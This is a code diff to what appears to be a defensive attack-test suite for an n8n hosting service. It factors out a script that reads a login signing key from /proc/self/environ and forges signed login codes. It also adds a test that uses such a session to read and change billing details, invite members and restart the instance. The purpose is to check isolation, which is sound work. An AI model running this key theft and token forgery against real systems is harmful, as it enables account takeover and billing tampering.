@@ -104,6 +104,29 @@ export const forgeLate: readonly Attack[] = [
   },
 ];
 
+/** Signs a code for the workspace `given`, with the key that n8n was started with. */
+const signCode = `const { createPrivateKey, sign, randomUUID } = require('node:crypto');
+  const key = /SLIPWAY_LOGIN_KEY=([^\\0]+)/.exec(require('node:fs').readFileSync('/proc/self/environ', 'utf8'))[1];
+  const der = Buffer.concat([Buffer.from('302e020100300506032b657004220420', 'hex'), Buffer.from(key, 'base64url')]);
+  const text = 'w1.' + Buffer.from(JSON.stringify({ workspaceId: given, id: randomUUID(), issuedAtMs: Date.now() })).toString('base64url');
+  return text + '.' + sign(null, Buffer.from(text), createPrivateKey({ key: der, format: 'der', type: 'pkcs8' })).toString('base64url');`;
+
+/** What the owner's session must not be able to do if code in the workspace opened it: change or read what the customer is billed, and more. */
+const ownersCalls: readonly (readonly [method: "GET" | "PUT" | "POST" | "PATCH", path: string, body?: object])[] = [
+  ["PUT", "/account/billing/details", { name: "Mallory Inc.", line1: "", line2: "", postalCode: "", city: "", country: "US", vatId: "" }],
+  ["GET", "/account/billing/details"],
+  ["GET", "/account/transactions"],
+  ["GET", "/account/payments"],
+  ["GET", "/account/payment-information"],
+  ["GET", "/auth/sessions"],
+  ["GET", "/account/invitations"],
+  ["POST", "/account/invite-members", { emails: ["mallory@example.com"] }],
+  ["PATCH", "/account/profile", { fullName: "Mallory" }],
+  ["GET", "/instance/variables"],
+  ["PUT", "/instance/variables", { revision: 0, variables: [] }],
+  ["PUT", "/instance/restart"],
+];
+
 export const forge: readonly Attack[] = [
   {
     title: "forges login links to its neighbour's workspace",
@@ -155,18 +178,31 @@ export const forge: readonly Attack[] = [
     async run(scene) {
       const { slipway, neighbour } = scene;
       // The key that n8n's hook hides from the environment can still be read, and is valid for its own account only.
-      const code = String(
-        await scene.script(
-          `const { createPrivateKey, sign, randomUUID } = require('node:crypto');
-        const key = /SLIPWAY_LOGIN_KEY=([^\\0]+)/.exec(require('node:fs').readFileSync('/proc/self/environ', 'utf8'))[1];
-        const der = Buffer.concat([Buffer.from('302e020100300506032b657004220420', 'hex'), Buffer.from(key, 'base64url')]);
-        const text = 'w1.' + Buffer.from(JSON.stringify({ workspaceId: given, id: randomUUID(), issuedAtMs: Date.now() })).toString('base64url');
-        return text + '.' + sign(null, Buffer.from(text), createPrivateKey({ key: der, format: 'der', type: 'pkcs8' })).toString('base64url');`,
-          neighbour.workspaceId,
-        ),
-      );
+      const code = String(await scene.script(signCode, neighbour.workspaceId));
       const answer = await slipway.call("POST", "/api/auth/login/code", { body: { code } });
       return { stoppedBy: String(answer.status), harms: answer.status === 200 ? ["a session of the neighbour's was opened"] : [] };
+    },
+  },
+  {
+    title: "changes and reads what its customer is billed, in a session that its own key opens",
+    means: "its own key, code in n8n",
+    async run(scene) {
+      const { attacker, slipway } = scene;
+      const code = String(await scene.script(signCode, attacker.workspaceId));
+      const opened = await slipway.call("POST", "/api/auth/login/code", { body: { code } });
+      if (opened.status !== 200)
+        return { stoppedBy: String(opened.status), harms: ["its own code opens no session, so nothing was tried"] };
+      const { token } = opened.json<{ token: string }>();
+      const answers = await Promise.all(
+        ownersCalls.map(async ([method, path, body]) => ({
+          name: `${method} ${path}`,
+          status: (await slipway.call(method, `/api${path}`, { token, ...(body && { body }) })).status,
+        })),
+      );
+      return {
+        stoppedBy: words(answers.map(({ status }) => String(status))),
+        harms: answers.filter(({ status }) => status !== 403).map(({ name, status }) => `${name}: ${status}`),
+      };
     },
   },
   {
